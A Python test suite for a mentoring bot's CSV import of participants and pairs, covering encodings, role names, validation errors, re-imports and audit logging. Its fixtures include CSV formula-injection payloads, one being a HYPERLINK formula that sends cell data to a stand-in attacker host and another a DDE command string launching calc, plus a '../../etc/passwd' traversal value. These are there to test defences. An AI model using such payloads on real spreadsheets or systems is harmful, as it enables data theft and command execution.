"""The CSV import of participants and binômes (storage/importer/) and its report (bot/import_report.py)."""
from __future__ import annotations

import re
import string
from datetime import date, datetime, timezone
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from sqlmodel import Session, func, select

from bot import import_report
from bot.i18n import Translator, available_languages
from bot.import_report import render_problem, render_report
from storage import importer
from storage.db import make_engine, upgrade
from storage.importer import ImportProblem, ImportReport, Problem, import_participants, make_import_key, writing
from storage.models import AuditLog, Binome, BinomeStatus, Participant, ParticipantStatus, Programme, Role
from tests.conftest import postgres_url, require_postgres_url
from storage.programmes import create_programme

DATA = Path(__file__).parent / "data"
NOW = datetime(2025, 9, 1, 8, 0, tzinfo=timezone.utc)
EN = Translator("en")
FR = Translator("fr")


@pytest.fixture
def engine(tmp_path):
    engine = make_engine(f"sqlite:///{tmp_path}/t.sqlite3")
    upgrade(engine)
    yield engine
    engine.dispose()


@pytest.fixture
def session(engine):
    with Session(engine, expire_on_commit=False) as session:
        yield session


@pytest.fixture
def programme(session) -> Programme:
    programme = create_programme(session=session, name="Mentorat 2025", now=NOW, duration_months=6)
    session.commit()
    return programme


def run(session, programme, data: bytes | str, *, now: datetime = NOW) -> ImportReport:
    if isinstance(data, str):
        data = data.encode("utf-8")
    return import_participants(session=session, programme=programme, data=data, now=now,
                               languages=available_languages())


def counts(session) -> dict[str, int]:
    return {
        model.__name__: session.exec(select(func.count()).select_from(model)).one()
        for model in (Participant, Binome, AuditLog)
    }


def people(session) -> dict[str, Participant]:
    return {p.first_name: p for p in session.exec(select(Participant))}


def binomes(session) -> dict[str, Binome]:
    return {b.label: b for b in session.exec(select(Binome))}


def codes(problems: list[ImportProblem]) -> list[tuple[int | None, Problem]]:
    return sorted(((p.row, p.code) for p in problems), key=lambda t: (t[0] or 0, t[1]))


# --- well-formed files ----------------------------------------------------------------------


def test_comma_utf8_file(session, programme):
    report = run(session, programme, (DATA / "comma_utf8.csv").read_bytes())
    session.commit()

    assert report.ok, render_report(report, EN)
    assert report.delimiter == ","
    assert report.encoding == "utf-8"
    assert (report.participants_created, report.binomes_created) == (4, 2)
    assert report.warnings == []
    found = people(session)
    alice = found["Alice"]
    assert alice.role == Role.MENTOR
    assert alice.status == ParticipantStatus.INVITED
    assert (alice.language, alice.timezone, alice.phone) == ("en", "Europe/Paris", "+33 6 12 34 56 78")
    assert (alice.email, alice.employer) == ("alice.martin@example.com", "Acme")
    assert alice.import_key == "p-01|mentor|alice|martin"
    assert found["Carol"].language == "en"  # "English" read as a name
    assert found["Carol"].employer == "Globex, Inc."  # quoted comma kept
    assert found["Dan"].language is None  # empty: the phone's language at onboarding, else the programme's
    assert found["Dan"].timezone is None
    pair = binomes(session)["P-01"]
    assert (pair.mentor_id, pair.mentee_id) == (alice.id, found["Bob"].id)
    assert pair.status == BinomeStatus.ACTIVE
    assert (pair.started_on, pair.planned_end_on) == (date(2025, 9, 15), date(2026, 3, 15))
    # No start date: today in the programme's timezone.
    assert binomes(session)["P-02"].started_on == date(2025, 9, 1)


def test_french_excel_file_with_bom_and_accents(session, programme):
    report = run(session, programme, (DATA / "excel_fr_bom.csv").read_bytes())
    session.commit()

    assert report.ok, render_report(report, EN)
    assert report.delimiter == ";"
    assert report.encoding == "utf-8"
    assert (report.participants_created, report.binomes_created) == (5, 2)
    found = people(session)
    assert set(found) == {"François", "Zoé", "Hélène", "Jérôme", "Maëlle"}
    assert found["François"].last_name == "Lefèvre"
    assert found["Zoé"].last_name == "Garçon"
    assert found["Zoé"].role == Role.MENTEE
    assert found["Zoé"].import_key == "b1|mentee|zoe|garcon"
    assert found["Hélène"].role == Role.MENTOR  # "Tutrice"
    assert found["Jérôme"].role == Role.MENTEE  # "Tutoré"
    assert found["Jérôme"].language == "en"  # "anglais"
    assert found["Hélène"].language == "nl"  # "néerlandais"
    assert found["Hélène"].employer == "Société Générale"
    assert found["Maëlle"].role == Role.COORDINATOR
    assert found["Maëlle"].import_key == "|coordinator|maelle|benoit"
    assert binomes(session)["B2"].started_on == date(2025, 10, 1)
    assert binomes(session)["B2"].planned_end_on == date(2026, 4, 1)
    assert report.warnings == []  # Dutch has its catalog


def test_cp1252_file_reads_like_the_utf8_one(session, programme):
    report = run(session, programme, (DATA / "excel_fr_cp1252.csv").read_bytes())
    session.commit()

    assert report.ok, render_report(report, EN)
    assert report.encoding == "cp1252"
    assert Problem.READ_AS_CP1252 in [p.code for p in report.warnings]
    assert set(people(session)) == {"François", "Zoé", "Hélène", "Jérôme", "Maëlle"}
    # Same people as the UTF-8 file: importing that one afterwards changes nothing.
    again = run(session, programme, (DATA / "excel_fr_bom.csv").read_bytes())
    assert again.ok
    assert (again.participants_created, again.participants_updated, again.participants_unchanged) == (0, 0, 5)


def test_tab_separated_utf16_file(session, programme):
    text = "binome\trole\tprenom\tnom\nT1\tmentor\tÉlise\tAubé\nT1\tjeune\tNoé\tRoy\n"
    report = run(session, programme, b"\xff\xfe" + text.encode("utf-16-le"))
    assert report.ok, render_report(report, EN)
    assert report.delimiter == "\t"
    assert report.participants_created == 2


def test_reimport_creates_nothing_twice(session, programme):
    data = (DATA / "excel_fr_bom.csv").read_bytes()
    first = run(session, programme, data)
    session.commit()
    before = counts(session)

    second = run(session, programme, data)
    session.commit()

    assert second.ok
    assert (second.participants_created, second.participants_updated, second.participants_unchanged) == (0, 0, 5)
    assert (second.binomes_created, second.binomes_unchanged) == (0, 2)
    after = counts(session)
    assert after["Participant"] == before["Participant"] == first.participants_created
    assert after["Binome"] == before["Binome"] == 2
    assert after["AuditLog"] == before["AuditLog"] + 1  # one entry per import, even when nothing changed
    assert "0 participants created, 0 updated, 5 unchanged; 0 pairs created, 2 pairs unchanged." \
        in render_report(second, EN)


def test_reimport_matches_people_despite_case_accents_and_spaces(session, programme):
    run(session, programme, "binome;role;prenom;nom\nB1;mentor;Zoé;Le  Gall\nB1;mentee;Anaïs;Roy\n")
    session.commit()
    report = run(session, programme, "binome;role;prenom;nom\nb1;MENTOR; zoe ;le gall\nB1;mentoree;ANAIS;ROY\n")
    assert report.ok, render_report(report, EN)
    assert report.participants_created == 0
    assert report.binomes_unchanged == 1
    # Displayed names follow the latest file.
    assert people(session)["zoe"].last_name == "le gall"
    assert report.participants_updated == 2


def test_reimport_updates_changed_optional_fields_and_never_erases(session, programme):
    run(session, programme, "binome;role;prenom;nom;telephone;courriel\n"
                            "B1;mentor;Marc;Durand;0612345678;marc@example.fr\nB1;mentee;Inès;Roux;;\n")
    session.commit()
    report = run(session, programme, "binome;role;prenom;nom;telephone;courriel\n"
                                     "B1;mentor;Marc;Durand;0699999999;\nB1;mentee;Inès;Roux;;\n")
    session.commit()
    assert report.ok
    assert (report.participants_updated, report.participants_unchanged) == (1, 1)
    marc = people(session)["Marc"]
    assert marc.phone == "0699999999"
    assert marc.email == "marc@example.fr"  # empty cell: kept


def test_partial_reimport_of_an_existing_pair(session, programme):
    run(session, programme, "binome;role;prenom;nom\nB1;mentor;Marc;Durand\nB1;mentee;Inès;Roux\n")
    session.commit()
    report = run(session, programme, "binome;role;prenom;nom\nB1;mentee;Inès;Roux\n")
    assert report.ok, render_report(report, EN)
    assert (report.participants_unchanged, report.binomes_unchanged, report.binomes_created) == (1, 1, 0)


def test_start_date_defaults_to_today_in_programme_timezone(session, programme):
    late_evening_utc = datetime(2025, 8, 31, 23, 30, tzinfo=timezone.utc)  # 1 September in Paris
    report = run(session, programme, "pair,role,first name,last name\nX,mentor,A,B\nX,mentee,C,D\n",
                 now=late_evening_utc)
    assert report.ok
    assert binomes(session)["X"].started_on == date(2025, 9, 1)
    assert binomes(session)["X"].planned_end_on == date(2026, 3, 1)


# --- errors: all reported, nothing written ----------------------------------------------------


def test_bad_rows_are_all_reported_and_nothing_is_written(session, programme):
    before = counts(session)
    report = run(session, programme, (DATA / "bad_rows.csv").read_bytes())

    assert not report.ok
    assert codes(report.errors) == codes([
        ImportProblem(4, Problem.UNKNOWN_ROLE),
        ImportProblem(5, Problem.NO_MENTEE),
        ImportProblem(6, Problem.TWO_MENTORS),
        ImportProblem(7, Problem.NO_MENTEE),
        ImportProblem(8, Problem.MISSING_FIRST_NAME),
        ImportProblem(9, Problem.BAD_DATE),
        ImportProblem(10, Problem.BAD_EMAIL),
        ImportProblem(11, Problem.COLUMN_COUNT),
        ImportProblem(12, Problem.DUPLICATE_ROW),
    ])
    assert report.participants_created == report.binomes_created == 0
    session.commit()
    assert counts(session) == before

    text = render_report(report, EN)
    assert "Row 4: unknown role «tutrice2» (accepted: mentoré" in text
    assert "Row 6: pair «B3» has more than one mentor (rows 5, 6)." in text
    assert "Row 9: the start date «31/02/2025» is not a date" in text
    assert "Row 10: the e-mail address «max@@example» does not look valid." in text
    assert "Row 11: this row has 4 cells but the header line has 6." in text
    assert "Row 12: this row repeats row 2" in text
    assert "9 errors:" in text
    assert "Nothing was imported" in text
    # Errors are listed in row order.
    rows = [int(n) for n in re.findall(r"Row (\d+):", text)]
    assert rows == sorted(rows)


def test_session_stays_usable_after_a_refused_import(session, programme):
    report = run(session, programme, (DATA / "bad_rows.csv").read_bytes())
    assert not report.ok
    create_programme(session=session, name="Other", now=NOW)
    session.commit()
    assert session.exec(select(func.count()).select_from(Programme)).one() == 2


def test_caller_rollback_undoes_a_successful_import(engine, programme):
    with Session(engine) as fresh:  # only reads before the import: no transaction open yet on SQLite
        target = fresh.get(Programme, programme.id)
        assert run(fresh, target, (DATA / "comma_utf8.csv").read_bytes()).ok
        fresh.rollback()
    with Session(engine) as check:
        assert counts(check) == {"Participant": 0, "Binome": 0, "AuditLog": 1}


def test_missing_required_columns(session, programme):
    report = run(session, programme, "binome;prénom;courriel\nB1;Marc;marc@example.fr\n")
    assert [(p.row, p.code) for p in report.errors] == [(None, Problem.MISSING_COLUMNS)]
    text = render_problem(report.errors[0], EN)
    assert "«rôle» (role)" in text
    assert "«nom» (" in text and "last name" in text
    assert "binôme" not in text.split(":", 1)[1].split("«rôle»")[0]  # present columns are not listed


def test_unknown_columns_are_ignored_with_a_warning(session, programme):
    report = run(session, programme, "binome;role;prenom;nom;Remarques;Ville\n"
                                     "B1;mentor;A;B;x;y\nB1;mentee;C;D;;\n")
    assert report.ok
    assert [p.code for p in report.warnings] == [Problem.IGNORED_COLUMNS]
    assert "«Remarques», «Ville»" in render_problem(report.warnings[0], EN)


def test_same_column_twice_is_an_error(session, programme):
    report = run(session, programme, "binome;role;prénom;first name;nom\nB1;mentor;A;A;B\n")
    assert [p.code for p in report.errors] == [Problem.DUPLICATE_COLUMN]


@pytest.mark.parametrize("data", [b"", b"\xef\xbb\xbf", b"\r\n\r\n", b" ; ; \r\n"])
def test_empty_file(session, programme, data):
    report = run(session, programme, data)
    assert [(p.row, p.code) for p in report.errors] == [(None, Problem.EMPTY_FILE)]
    assert "save your spreadsheet as csv" in render_report(report, EN).lower()


def test_header_only(session, programme):
    report = run(session, programme, "binome;role;prenom;nom\n")
    assert [p.code for p in report.errors] == [Problem.NO_ROWS]


@pytest.mark.parametrize(("data", "kind"), [
    (b"PK\x03\x04\x14\x00\x06\x00\x08\x00\x00\x00!\x00[Content_Types].xml", "XLSX"),
    (b"PK\x03\x04\x14\x00\x00\x08\x00\x00mimetypeapplication/vnd.oasis.opendocument.spreadsheet", "ODS"),
    (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1\x00\x00\x00", "XLS"),
])
def test_spreadsheet_file_instead_of_csv(session, programme, data, kind):
    report = run(session, programme, data)
    assert [p.code for p in report.errors] == [Problem.SPREADSHEET_FILE]
    text = render_report(report, EN)
    assert kind in text and "CSV UTF-8" in text


def test_other_binary_file(session, programme):
    report = run(session, programme, b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR")
    assert [p.code for p in report.errors] == [Problem.BINARY_FILE]


def test_file_without_header_line(session, programme):
    report = run(session, programme, "B1;mentor;Marc;Durand\nB1;mentee;Inès;Roux\n")
    assert [p.code for p in report.errors] == [Problem.NO_HEADER]


def test_changing_the_mentor_of_an_existing_pair_is_refused(session, programme):
    run(session, programme, "binome;role;prenom;nom\nB1;mentor;Marc;Durand\nB1;mentee;Inès;Roux\n")
    session.commit()
    before = counts(session)
    report = run(session, programme, "binome;role;prenom;nom\nB1;mentor;Paul;Blanc\nB1;mentee;Inès;Roux\n"
                                     "B2;mentor;Léo;Vidal\nB2;mentee;Ana;Sanz\n")
    assert [(p.row, p.code) for p in report.errors] == [(2, Problem.OTHER_MENTOR)]
    assert "pair «B1» already exists with another mentor" in render_report(report, EN)
    session.commit()
    assert counts(session) == before  # B2, although correct, was not imported either


def test_a_third_person_in_an_existing_pair_is_refused(session, programme):
    run(session, programme, "binome;role;prenom;nom\nB1;mentor;Marc;Durand\nB1;mentee;Inès;Roux\n")
    session.commit()
    report = run(session, programme, "binome;role;prenom;nom\nB1;mentee;Zoé;Roux\n")
    assert [(p.row, p.code) for p in report.errors] == [(2, Problem.OTHER_MENTEE)]


# --- rows, roles, values ----------------------------------------------------------------------


def test_coordinator_rows(session, programme):
    report = run(session, programme, "binome;role;prenom;nom;debut\n"
                                     ";Coordinateur;Paul;Morel;\n"
                                     ";référente;Inès;Klein;01/09/2025\n"
                                     "B1;mentor;Marc;Durand;\nB1;filleule;Léa;Petit;\n")
    assert report.ok, render_report(report, EN)
    assert report.participants_created == 4
    found = people(session)
    assert found["Paul"].role == found["Inès"].role == Role.COORDINATOR
    assert [p.code for p in report.warnings] == [Problem.START_DATE_IGNORED]


def test_coordinator_with_a_pair_and_mentor_without_one(session, programme):
    report = run(session, programme, "binome;role;prenom;nom\nB1;coordinatrice;Inès;Klein\n;mentor;Marc;Durand\n")
    assert codes(report.errors) == [(2, Problem.COORDINATOR_WITH_PAIR), (3, Problem.MISSING_PAIR)]


@pytest.mark.parametrize(("value", "role"), [
    ("mentoré", Role.MENTEE), ("Mentorée", Role.MENTEE), ("MENTEE", Role.MENTEE), ("tutoré", Role.MENTEE),
    ("Tutore", Role.MENTEE), ("tutee", Role.MENTEE), ("Élève", Role.MENTEE), ("eleve", Role.MENTEE),
    ("jeune", Role.MENTEE), ("filleul", Role.MENTEE), ("Filleule", Role.MENTEE),
    ("mentor", Role.MENTOR), ("Tuteur", Role.MENTOR), ("tutrice", Role.MENTOR), ("marraine", Role.MENTOR),
    ("Parrain", Role.MENTOR),
    ("coordinateur", Role.COORDINATOR), ("Coordinatrice", Role.COORDINATOR), ("coordinator", Role.COORDINATOR),
    ("référent", Role.COORDINATOR), ("REFERENTE", Role.COORDINATOR),
    ("mentore", importer.AMBIGUOUS), ("MENTORE", importer.AMBIGUOUS),
    ("tutrice2", None), ("mentors", None),
])
def test_role_names(value, role):
    assert importer.parse_role(value) == role


def test_ambiguous_mentore_is_read_from_the_other_person(session, programme):
    report = run(session, programme, "binome;role;prenom;nom\n"
                                     "B1;mentor;Marc;Durand\nB1;mentore;Léa;Petit\n"  # Léa: the mentee
                                     "B2;mentore;Julie;Roy\nB2;mentee;Tom;Roy\n")  # Julie: the mentor
    assert report.ok, render_report(report, EN)
    found = people(session)
    assert (found["Léa"].role, found["Julie"].role) == (Role.MENTEE, Role.MENTOR)
    rendered = [render_problem(p, EN) for p in report.warnings]
    assert "«mentore» was read as mentee (row 3) because the other person of the pair is the mentor." \
        in rendered[0]
    assert "«mentore» was read as mentor (row 4) because the other person of the pair is the mentee." \
        in rendered[1]


def test_ambiguous_mentore_without_context_is_an_error(session, programme):
    report = run(session, programme, "binome;role;prenom;nom\nB1;mentore;Léa;Petit\nB1;mentore;Marc;Durand\n")
    assert codes(report.errors) == [(2, Problem.AMBIGUOUS_ROLE), (3, Problem.AMBIGUOUS_ROLE)]


def test_unknown_language_warning_and_language_names(session, programme):
    report = run(session, programme, "binome;role;prenom;nom;langue\n"
                                     "B1;mentor;A;A;Nederlands\nB1;mentee;B;B;ar\n"
                                     "B2;mentor;C;C;Deutsch\nB2;mentee;D;D;pt-BR\n"
                                     "B3;mentor;E;E;Türkçe\nB3;mentee;F;F;українська\n"
                                     "B4;mentor;G;G;espagnol\nB4;mentee;H;H;FR-be\n")
    assert report.ok, render_report(report, EN)
    found = people(session)
    assert [found[n].language for n in "ABCDEFGH"] == ["nl", "ar", "de", "pt", "tr", "uk", "es", "fr"]
    rendered = sorted(render_problem(p, EN) for p in report.warnings)
    assert len(rendered) == 2  # every language we speak is accepted; German and Portuguese are kept, with a warning
    assert "«de» yet (row 4)" in rendered[0] and "«fr»" in rendered[0]
    assert "«pt» yet (row 5)" in rendered[1]


def test_unreadable_language_is_an_error(session, programme):
    report = run(session, programme, "binome;role;prenom;nom;langue\nB1;mentor;A;A;martien\nB1;mentee;B;B;xx\n")
    assert [(p.row, p.code) for p in report.errors] == [
        (2, Problem.UNKNOWN_LANGUAGE), (3, Problem.UNKNOWN_LANGUAGE)]


def test_timezone_is_validated_and_normalised(session, programme):
    report = run(session, programme, "binome;role;prenom;nom;fuseau\n"
                                     "B1;mentor;A;A;europe/brussels\nB1;mentee;B;B;Mars/Olympus\n")
    assert [(p.row, p.code) for p in report.errors] == [(3, Problem.BAD_TIMEZONE)]
    assert importer.parse_timezone("europe/brussels") == "Europe/Brussels"
    assert importer.parse_timezone("America/New York") == "America/New_York"
    assert importer.parse_timezone("../../etc/passwd") is None


@pytest.mark.parametrize(("value", "expected"), [
    ("15/09/2025", date(2025, 9, 15)), ("1/9/2025", date(2025, 9, 1)), ("2025-09-15", date(2025, 9, 15)),
    ("15.09.2025", date(2025, 9, 15)), ("31/02/2025", None), ("09/15/2025", None), ("15/09/25", None),
    ("demain", None),
])
def test_dates(value, expected):
    assert importer.parse_date(value) == expected


def test_phone_email_and_length_checks(session, programme):
    long_name = "A" * 81
    report = run(session, programme, "binome;role;prenom;nom;telephone;email\n"
                                     f"B1;mentor;{long_name};Durand;3,36123E+10;\n"
                                     "B1;mentee;Inès;Roux;appelle-moi;ines@@x\n"
                                     "B2;mentor;Luc;Vert;+32 (0)470 12.34.56;luc.vert@example.be\n"
                                     "B2;mentee;Eva;Brun;;eva@localhost\n")
    assert codes(report.errors) == codes([
        ImportProblem(2, Problem.TOO_LONG), ImportProblem(2, Problem.PHONE_AS_NUMBER),
        ImportProblem(3, Problem.BAD_PHONE), ImportProblem(3, Problem.BAD_EMAIL),
        ImportProblem(5, Problem.BAD_EMAIL),
    ])
    too_long = next(p for p in report.errors if p.code == Problem.TOO_LONG)
    assert render_problem(too_long, EN) == "«prenom» is too long (81 characters, at most 80)."


def test_whitespace_is_collapsed(session, programme):
    report = run(session, programme, "binome;role;prenom;nom;entreprise\n"
                                     " B1 ;mentor;  Jean   Marc ;\u00a0Durand\u00a0;La  Poste\n"
                                     "B1;mentee;Eva;Brun;\n")
    assert report.ok
    jean = people(session)["Jean Marc"]
    assert (jean.last_name, jean.employer) == ("Durand", "La Poste")
    assert binomes(session)["B1"].label == "B1"


def test_two_start_dates_in_one_pair(session, programme):
    report = run(session, programme, "binome;role;prenom;nom;debut\n"
                                     "B1;mentor;A;A;01/09/2025\nB1;mentee;B;B;02/09/2025\n")
    assert [(p.row, p.code) for p in report.errors] == [(3, Problem.DIFFERENT_DATES)]


def test_quoted_cells_with_newlines_keep_spreadsheet_row_numbers(session, programme):
    data = ('binome;role;prenom;nom;entreprise\n'
            'B1;mentor;A;A;"Ligne 1\nLigne 2"\nB1;mentee;B;B;\nB2;tutrice2;C;C;\n')
    report = run(session, programme, data)
    assert [(p.row, p.code) for p in report.errors] == [(4, Problem.UNKNOWN_ROLE)]


def test_declined_participant_is_not_updated(session, programme):
    run(session, programme, "binome;role;prenom;nom;telephone\nB1;mentor;A;A;0612345678\nB1;mentee;B;B;\n")
    person = people(session)["A"]
    person.status = ParticipantStatus.DECLINED
    session.add(person)
    session.commit()
    report = run(session, programme, "binome;role;prenom;nom;telephone\n"
                                     "B1;mentor;A;A;0699999999\nB1;mentee;B;B;\n")
    assert report.ok
    assert people(session)["A"].phone == "0612345678"
    assert [p.code for p in report.warnings] == [Problem.DECLINED_NOT_UPDATED]


# --- audit, report, messages ------------------------------------------------------------------


def test_one_audit_entry_with_counts_only(session, programme):
    run(session, programme, (DATA / "excel_fr_bom.csv").read_bytes())
    session.commit()
    entries = session.exec(select(AuditLog).where(AuditLog.action == "import.completed")).all()
    assert len(entries) == 1
    entry = entries[0]
    assert (entry.actor, entry.programme_id, entry.subject) == ("cli", programme.id, f"programme:{programme.id}")
    assert entry.details["participants_created"] == 5
    assert entry.details["binomes_created"] == 2
    flat = repr(entry.details)
    for personal in ("François", "Zoé", "Lefèvre", "exemple.fr", "06 12", "B1"):
        assert personal not in flat


def test_nothing_personal_is_logged(session, programme, caplog):
    caplog.set_level("DEBUG")
    run(session, programme, (DATA / "excel_fr_bom.csv").read_bytes())
    run(session, programme, (DATA / "bad_rows.csv").read_bytes())
    for personal in ("François", "Zoé", "exemple", "Marc", "Durand", "max@@example"):
        assert personal not in caplog.text


@pytest.mark.parametrize(("translator", "summary", "row"), [
    (EN, "5 participants created, 0 updated, 0 unchanged; 2 pairs created, 0 pairs unchanged.", "Row "),
    (FR, "5 participants créés, 0 mis à jour, 0 inchangé ; 2 binômes créés, 0 binôme inchangé.", "Ligne "),
])
def test_reports_render(session, programme, translator, summary, row):
    ok = run(session, programme, (DATA / "excel_fr_bom.csv").read_bytes())
    other = create_programme(session=session, name="Other", now=NOW)
    bad = run(session, other, (DATA / "bad_rows.csv").read_bytes())
    ok_text, bad_text = render_report(ok, translator), render_report(bad, translator)
    assert ok_text.splitlines()[-1] == summary
    assert "{" not in ok_text and "{" not in bad_text
    assert len([line for line in bad_text.splitlines() if line.strip().startswith(row)]) == 9


def test_singular_counts_in_summary():
    report = ImportReport(participants_created=1, participants_updated=1, binomes_created=1, binomes_unchanged=1)
    assert render_report(report, EN).splitlines()[-1] == \
        "1 participant created, 1 updated, 0 unchanged; 1 pair created, 1 pair unchanged."


def test_every_template_formats_with_named_placeholders():
    assert len(import_report.TEMPLATES) >= 40
    for template in import_report.TEMPLATES:
        fields = [name for _, name, _, _ in string.Formatter().parse(template) if name is not None]
        assert all(fields) and all(name.isidentifier() for name in fields), template


def test_every_problem_has_a_text():
    assert set(import_report.PROBLEM_TEXTS) == set(Problem)


def test_templates_are_not_formatted_inside_N_():
    source = Path(import_report.__file__).read_text(encoding="utf-8")
    assert not re.search(r"N_\(\s*f[\"']", source)
    assert not re.search(r"N_\([^)]*\)\s*\.format", source)


# --- import keys ------------------------------------------------------------------------------

names = st.text(alphabet="abcdeéèçàïôZÉ -", min_size=1, max_size=12).filter(lambda s: s.strip())


@settings(max_examples=60, deadline=None)
@given(pair=names, first=names, last=names)
def test_import_key_ignores_case_accents_and_spacing(pair, first, last):
    key = make_import_key(pair, Role.MENTOR, first, last)
    variant = make_import_key(f"  {pair.upper()} ", Role.MENTOR, importer.strip_accents(first).swapcase(),
                              last.replace(" ", "   "))
    assert key == variant
    assert key.split("|")[1] == "mentor"
    assert make_import_key(pair, Role.COORDINATOR, first, last).startswith("|coordinator|")


# --- a database failure while writing ----------------------------------------------------------


def _write_with_a_conflict(original):
    """The real writes, plus a participant whose import key the import also uses: a unique violation."""

    def write(session, programme, now, rows, plans, existing, report):
        session.add(Participant(programme_id=programme.id, role=Role.MENTOR, first_name="X",
                                import_key=rows[0].key, created_at=now))
        session.flush()
        original(session, programme, now, rows, plans, existing, report)

    return write


@pytest.mark.parametrize("caller_wrote_first", [True, False])
def test_database_failure_rolls_back_the_import_only(engine, programme, monkeypatch, caller_wrote_first):
    monkeypatch.setattr(writing, "_write", _write_with_a_conflict(writing._write))
    with Session(engine, expire_on_commit=False) as session:
        target = session.get(Programme, programme.id)
        if caller_wrote_first:  # a transaction is open: the import runs in a SAVEPOINT
            create_programme(session=session, name="Kept", now=NOW)
        report = run(session, target, (DATA / "comma_utf8.csv").read_bytes())
        assert [p.code for p in report.errors] == [Problem.DATABASE_CHANGED]
        assert report.participants_created == 0
        session.commit()  # the session is still usable
    with Session(engine) as check:
        assert counts(check)["Participant"] == 0
        names = set(check.exec(select(Programme.name)).all())
        assert names == ({"Mentorat 2025", "Kept"} if caller_wrote_first else {"Mentorat 2025"})


# --- one person in several pairs ------------------------------------------------------------------

SEVERAL = (
    "binome;rôle;prénom;nom;email;téléphone\n"
    "P1;mentor;Marc;Dubois;marc.dubois@example.org;\n"
    "P1;mentoré;Amina;Benali;;\n"
    "P2;mentor;marc;DUBOIS;Marc.Dubois@Example.org;\n"
    "P2;mentoré;Léa;Martin;;\n"
)


def test_a_mentor_in_two_pairs_is_one_participant_with_one_invitation(session, programme):
    from storage.invite_links import invitation_lines

    report = run(session, programme, SEVERAL)
    assert report.ok, report.errors
    assert (report.participants_created, report.binomes_created) == (3, 2)
    assert codes(report.warnings) == [(None, Problem.SAME_PERSON_SEVERAL_PAIRS)]
    assert report.warnings[0].params == {"rows": [2, 4]}
    session.commit()
    marc = session.exec(select(Participant).where(Participant.role == Role.MENTOR)).one()
    pairs = binomes(session)
    assert pairs["P1"].mentor_id == pairs["P2"].mentor_id == marc.id
    lines = invitation_lines(session=session, programme=programme, bot_username="binome_bot", now=NOW, valid_days=30)
    assert [line.name for line in lines].count("Marc Dubois") == 1 and len(lines) == 3
    # The same file again changes nothing, whichever row comes first.
    before = counts(session)
    again = run(session, programme, SEVERAL)
    assert again.ok, again.errors
    assert (again.participants_created, again.participants_unchanged, again.binomes_unchanged) == (0, 3, 2)
    reordered = SEVERAL.splitlines()
    again = run(session, programme, "\n".join([reordered[0]] + reordered[3:] + reordered[1:3]) + "\n")
    assert again.ok, again.errors
    assert again.participants_created == again.binomes_created == 0
    session.commit()
    assert counts(session)["Participant"] == before["Participant"]
    assert counts(session)["Binome"] == before["Binome"]


def test_a_later_file_adds_a_pair_to_someone_already_imported(session, programme):
    assert run(session, programme, "\n".join(SEVERAL.splitlines()[:3]) + "\n").ok
    session.commit()
    report = run(session, programme, "binome;rôle;prénom;nom;téléphone\nP3;mentor;Marc;Dubois;\n"
                                     "P3;mentoré;Yanis;Haddad;\n")
    assert report.ok, report.errors
    assert (report.participants_created, report.binomes_created) == (1, 1)  # Yanis; Marc is recognised by name
    assert codes(report.warnings) == [(None, Problem.SAME_NAME_AS_EXISTING)]
    assert report.warnings[0].params == {"rows": [2]}
    session.commit()
    assert len(set(b.mentor_id for b in binomes(session).values())) == 1


def test_same_name_without_contact_is_a_guess_with_a_warning(session, programme):
    report = run(session, programme, "binome;rôle;prénom;nom;téléphone\n"
                                     "P1;mentor;Marc;Dubois;+32 470 12 34 56\nP1;mentoré;Amina;Benali;\n"
                                     "P2;mentor;Marc;Dubois;\nP2;mentoré;Léa;Martin;\n"
                                     "P3;mentor;Marc;Dubois;0470 99 99 99\nP3;mentoré;Yanis;Haddad;\n")
    assert report.ok, report.errors
    # Rows 2 and 4 are guessed the same (one phone, one none); row 6 has another phone: someone else.
    assert codes(report.warnings) == [(None, Problem.SAME_NAME_GUESSED)]
    assert report.warnings[0].params == {"rows": [2, 4]}
    assert report.participants_created == 5
    text = render_report(report, EN)
    assert "rows 2, 4" in text and "same first and last name" in text


def test_the_same_contact_as_mentor_and_as_mentee_is_refused(session, programme):
    report = run(session, programme, "binome;rôle;prénom;nom;téléphone\n"
                                     "P1;mentor;Marc;Dubois;+32 470 12 34 56\nP1;mentoré;Amina;Benali;\n"
                                     "P2;mentor;Jean;Petit;\nP2;mentoré;Marc;Dubois;0032470123456\n")
    assert codes(report.errors) == [(5, Problem.MENTOR_AND_MENTEE)]
    assert report.errors[0].params == {"rows": [2, 5]}
    assert "given to a mentor and to a mentee" in render_report(report, EN)
    assert counts(session)["Participant"] == 0


def test_a_mentee_in_two_pairs_is_one_participant_too(session, programme):
    report = run(session, programme, "binome;rôle;prénom;nom;email\n"
                                     "P1;mentor;Marc;Dubois;\nP1;mentoré;Amina;Benali;amina@example.org\n"
                                     "P2;mentor;Jean;Petit;\nP2;mentoré;Amina;Benali;amina@example.org\n")
    assert report.ok, report.errors
    assert (report.participants_created, report.binomes_created) == (3, 2)


# --- what a spreadsheet would run, names that grow when folded, the command line -------------------

FORMULAS = (
    "binome;rôle;prénom;nom;employeur\n"
    "F1;mentor;=HYPERLINK(\"http://evil.example/?\"&A1,\"x\");Dubois;@SUM(A1:A9)\n"
    "F1;mentoré;+cmd|' /C calc'!A0;Benali;\n"
    "F2;mentor;Marc;-2+3;\n"
    "F2;mentoré;Amina;Haddad;\n"
)


def test_safe_cell_neutralises_what_a_spreadsheet_would_run():
    from storage.spreadsheet import safe_cell

    for value in ("=1+1", "+32 470", "-2+3", "@SUM(A1)", "\t=1", "\r=1"):
        assert safe_cell(value) == "'" + value
    for value in ("Marc Dubois", "", "Jean-Marc", "José = chef", "'quoted"):
        assert safe_cell(value) == value


def test_formula_like_names_are_imported_with_a_warning_and_invited_safely(session, programme):
    from storage.invite_links import invitation_lines

    report = run(session, programme, FORMULAS)
    assert report.ok, report.errors
    assert codes(report.warnings) == [(None, Problem.FORMULA_LIKE)]
    assert report.warnings[0].params == {"rows": [2, 3, 4]}
    assert "=, +, - or @" in render_report(report, EN) and "rows 2, 3, 4" in render_report(report, EN)
    assert "=, +, - ou @" in render_report(report, FR)
    session.commit()
    assert people(session)["+cmd|' /C calc'!A0"].last_name == "Benali"  # stored as written
    lines = invitation_lines(session=session, programme=programme, bot_username="b", now=NOW, valid_days=30)
    assert sorted(line.name for line in lines) == sorted([
        "'=HYPERLINK(\"http://evil.example/?\"&A1,\"x\") Dubois", "'+cmd|' /C calc'!A0 Benali",
        "Marc -2+3", "Amina Haddad"])


LONG_FOLDED = "binome;rôle;prénom;nom\nL1;mentor;{ss};{ss}\nL1;mentoré;Amina;Benali\n".format(ss="ß" * 80)


